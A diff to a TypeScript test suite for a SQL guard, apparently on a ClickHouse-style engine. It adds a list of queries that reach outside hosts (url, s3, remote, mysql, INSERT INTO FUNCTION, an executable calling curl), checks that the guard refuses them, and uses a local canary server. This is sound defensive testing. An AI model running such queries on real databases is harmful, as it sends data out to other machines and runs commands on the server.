@@ -1,4 +1,6 @@
 import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { join } from "node:path";
 import { array, assert, asyncProperty, constantFrom, string } from "fast-check";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
@@ -15,6 +17,34 @@ vi.setConfig({ testTimeout: 120_000 });
 
 const options = guardOptionsOf("tributary");
 const check = (sql: string) => checkSql(sql, options);
+
+/** Ways to another machine; `@` is the host and port of a server that must not hear of anything. */
+const callsOut: readonly string[] = [
+  "SELECT * FROM url('http://@/x', LineAsString)",
+  "SELECT * FROM urlCluster('default', 'http://@/x', LineAsString)",
+  "SELECT * FROM s3('http://@/bucket/x', 'LineAsString')",
+  "SELECT * FROM s3Cluster('default', 'http://@/bucket/x', 'LineAsString')",
+  "SELECT * FROM gcs('http://@/bucket/x', 'LineAsString')",
+  "SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;BlobEndpoint=http://@/a;AccountName=a;AccountKey=a2V5', 'c', 'x')",
+  "SELECT * FROM hdfs('hdfs://@/x', 'LineAsString', 'x String')",
+  "SELECT * FROM deltaLake('http://@/bucket/x')",
+  "SELECT * FROM iceberg('http://@/bucket/x')",
+  "SELECT * FROM hudi('http://@/bucket/x')",
+  "SELECT * FROM remote('@', system.one)",
+  "SELECT * FROM remoteSecure('@', system.one)",
+  "SELECT * FROM cluster('@', system.one)",
+  "SELECT * FROM mysql('@', 'd', 't', 'u', 'p')",
+  "SELECT * FROM postgresql('@', 'd', 't', 'u', 'p')",
+  "SELECT * FROM mongodb('@', 'd', 't', 'u', 'p', 'x String')",
+  "SELECT * FROM redis('@', 'k', 'k String')",
+  "SELECT * FROM jdbc('http://@', 'd', 't')",
+  "SELECT * FROM odbc('DSN=@', 'd', 't')",
+  "INSERT INTO FUNCTION url('http://@/x', 'CSV', 'x Int8') SELECT 1",
+  "INSERT INTO FUNCTION remote('@', default.t) SELECT 1",
+  "SELECT * FROM executable('curl http://@', 'LineAsString', 'x String')",
+  "CREATE TABLE t (x String) ENGINE = URL('http://@/x')",
+  "SELECT aiGenerate('http://@')",
+];
 
 const goodQueries: readonly string[] = [
   "SELECT 1",
@@ -139,7 +169,7 @@ describe("the guard", () => {
     expect(check(sql)).toMatchObject({ ok: true });
   });
 
-  it.each(escapes)("refuses: %s", (sql) => {
+  it.each([...escapes, ...callsOut])("refuses: %s", (sql) => {
     const verdict = check(sql);
     expect(verdict).toMatchObject({ ok: false, refusal: { reason: expect.stringMatching(/\w/) } });
     if (!verdict.ok) expect(verdict.refusal.at).toBeLessThanOrEqual(Math.max(sql.length, 0));
@@ -207,6 +237,28 @@ describe("user SQL in the engine", () => {
       });
       expect(answer, sql).not.toContain(secret);
       expect(existsSync(target()), sql).toBe(false);
+    }
+  });
+
+  it("reaches no other machine when it is asked past the guard, whatever it calls", async () => {
+    const heard: string[] = [];
+    const canary = createServer((_request, response) => response.end("heard\n"));
+    canary.on("connection", () => heard.push("a connection"));
+    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
+    const host = `127.0.0.1:${(canary.address() as AddressInfo).port}`;
+    try {
+      for (const attempt of callsOut) {
+        const sql = attempt.replaceAll("@", host);
+        await expect(run(sql), sql).rejects.toBeInstanceOf(StoreOutage);
+        expect(heard, sql).toEqual([]);
+      }
+      // The engine itself can: it is the guest who may not.
+      expect(await store.query({ sql: `SELECT * FROM url('http://${host}/x', LineAsString)` })).toEqual([
+        { line: "heard" },
+      ]);
+    } finally {
+      canary.closeAllConnections();
+      canary.close();
     }
   });
 
